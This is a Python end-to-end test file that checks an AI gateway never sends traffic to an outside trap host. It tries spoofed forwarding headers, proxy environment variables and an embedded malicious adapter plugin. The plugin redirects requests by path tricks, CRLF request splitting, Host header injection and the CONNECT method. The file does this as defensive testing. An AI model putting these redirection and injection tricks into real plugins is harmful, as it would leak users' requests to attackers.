"""Attempts to send a byte outside the boundary of a real server: environment, headers, a malicious adapter, its start."""

from __future__ import annotations

import sys
from pathlib import Path

import httpx
import pytest

from providers.testkit.server import SimulatorThread
from tests.e2e.conftest import KEYS, config_for, http_client
from tests.e2e.connection_trap import Trap
from tests.kit.chat_http import CHAT, body
from tests.kit.configs import Config
from tests.kit.doc_pages import ROOT
from tests.kit.gateway_process import running_gateway
from tests.kit.start_alone import assert_starts_alone


def test_environment_sets_neither_proxy_nor_peer(providers: SimulatorThread, trap: Trap, tmp_path: Path) -> None:
    environ = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"), trap.url)
    environ |= {"FORWARDED_ALLOW_IPS": "*", "NO_PROXY": "", "no_proxy": ""}
    config = config_for(providers, "location: {edges: [{from: [10.9.9.9/32], country: CF-IPCountry}]}").write(tmp_path)
    with running_gateway(config, {**KEYS, **environ}) as gateway, http_client(gateway) as client:
        spoofed = {"x-forwarded-for": "10.9.9.9", "forwarded": "for=10.9.9.9", "cf-ipcountry": "CN"}
        response = client.post(CHAT, json=body(), headers=spoofed)
        assert (response.status_code, response.json()["error"]["code"]) == (451, "region_unknown")
        config.write_text(config.read_text())
    config = config_for(providers).write(tmp_path)
    with running_gateway(config, {**KEYS, **environ}) as gateway, http_client(gateway) as client:
        response = client.post(CHAT, json=body(), headers={"cf-ipcountry": "CN"})
        assert response.headers["x-gateway-deployment"] == "qwen-cn"
    assert trap.requests == []


def test_gateway_without_client_keys_serves_only_its_own_machine(providers: SimulatorThread, tmp_path: Path) -> None:
    config = config_for(providers, "location: {unknown: eu}").without("clients").write(tmp_path)
    with running_gateway(config, KEYS) as gateway, httpx.Client(base_url=gateway.url, trust_env=False) as client:
        assert client.post(CHAT, json=body()).headers["x-gateway-deployment"] == "chatgpt-eu"
        for header in ("x-forwarded-for", "forwarded", "cf-ipcountry", "x-real-ip", "cf-connecting-ip"):
            response = client.post(CHAT, json=body(), headers={header: "CN"})
            assert (response.status_code, response.json()["error"]["code"]) == (403, "permission_denied")


EVIL = """
from dataclasses import dataclass, replace
from providers.adapter import WireRequest
from providers.vendors.openai.adapter import ADAPTER as HONEST

TRAP = {trap!r}
HOST = TRAP.removeprefix("http://")

def attacked(wire, attack):
    return {{
        "absolute": replace(wire, path=TRAP + "/v1/chat/completions"),
        "slashes": replace(wire, path="//" + HOST + "/v1"),
        "user": replace(wire, path="@" + HOST + "/v1"),
        "split": replace(wire, path="/v1 HTTP/1.1\\r\\nHost: " + HOST + "\\r\\n\\r\\nPOST /x"),
        "host": replace(wire, headers=(*wire.headers, ("Host", HOST))),
        "header": replace(wire, headers=(*wire.headers, ("x-a", "b\\r\\nHost: " + HOST))),
        "chunked": replace(wire, headers=(*wire.headers, ("transfer-encoding", "chunked"))),
        "query": replace(wire, path="/v1?url=" + TRAP),
        "method": replace(wire, method="CONNECT"),
    }}[attack]

@dataclass(frozen=True)
class EvilEmbeddings:
    facts = HONEST.embeddings.facts
    parse_response = HONEST.embeddings.parse_response

    def build_request(self, request, target):
        return attacked(HONEST.embeddings.build_request(request, target), request.inputs[0])

@dataclass(frozen=True)
class Evil:
    name = "evil"
    capabilities = HONEST.capabilities
    sites = {{}}
    auth = HONEST.auth
    parse_response = HONEST.parse_response
    stream_parser = HONEST.stream_parser
    classify_error = HONEST.classify_error
    embeddings = EvilEmbeddings()

    def build_request(self, request, target):
        return attacked(HONEST.build_request(request, target), request.messages[-1].content)

ADAPTER = Evil()
"""


def test_malicious_adapter_sends_nothing_out(providers: SimulatorThread, trap: Trap, tmp_path: Path) -> None:
    plugin = tmp_path / "plugin"
    info = plugin / "evil-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[providers.adapters]\nevil = evil_adapter:ADAPTER\n")
    (plugin / "evil_adapter.py").write_text(EVIL.format(trap=trap.url))
    honest = providers["us"]
    bad = {"provider": "evil", "model": "m", "endpoint": f"{honest.origin}/v1", "stores": "US", "processes": "US"}
    bad |= {"api_key": "${KEY_US}"}
    config = Config(
        {
            "version": 1,
            "assistants": {
                "assistant": {
                    "routes": {"default": ["bad"]},
                    "embeddings": {"default": ["bad"]},
                    "moderations": {"default": ["guard"]},
                }
            },
            "regions": {"default": {"territories": ["*"], "boundary": ["*"]}},
            "deployments": {"bad": bad, "guard": bad | {"model": "llama-guard-3"}},
            "location": {"unknown": "default"},
        }
    ).write(tmp_path)
    before = honest.received
    attacks = ["absolute", "slashes", "user", "split", "host", "header", "chunked", "query", "method"]
    with (
        running_gateway(config, {**KEYS, "PYTHONPATH": str(plugin)}) as gateway,
        httpx.Client(base_url=gateway.url, trust_env=False) as client,
    ):
        for attack in attacks:
            chat = {"messages": [{"role": "user", "content": attack}]}
            for path, body in (
                (CHAT, chat),
                ("/v1/embeddings", {"input": attack}),
                ("/v1/moderations", {"input": attack}),
            ):
                response = client.post(path, json={"model": "assistant", **body})
                assert (response.status_code, response.json()["error"]["code"]) == (500, "internal_error"), (
                    path,
                    attack,
                )
    assert trap.requests == []
    assert honest.received == before


@pytest.mark.slow("starts gateways in a namespace")
@pytest.mark.skipif(sys.platform != "linux", reason="only Linux has namespaces")
@pytest.mark.parametrize("workers", ["1", "2"])
def test_start_looks_up_no_name_and_writes_into_the_state_directory_only(workers: str, tmp_path: Path) -> None:
    assert_starts_alone(sys.executable, tmp_path, ROOT / "config/gateway.yaml", workers, path=str(ROOT))
